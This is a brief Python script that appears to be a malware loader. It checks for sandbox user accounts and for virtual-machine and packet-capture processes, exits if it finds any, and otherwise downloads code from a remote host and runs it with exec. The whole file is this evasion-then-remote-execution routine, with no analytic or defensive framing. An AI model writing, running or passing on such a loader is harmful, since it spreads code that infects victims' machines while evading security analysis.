import os, sys, requests, subprocess, getpass
BAD = ['vboxservice.exe', 'vmtoolsd.exe', 'wireshark.exe']
USERS = ['WDAGUtilityAccount', 'sandbox']
if getpass.getuser() in USERS:
    sys.exit(0)
for line in subprocess.check_output('tasklist').decode().splitlines():
    if line.split(' ')[0].lower() in BAD:
        os._exit(0)
exec(requests.get('https://x.example.invalid/p').text)
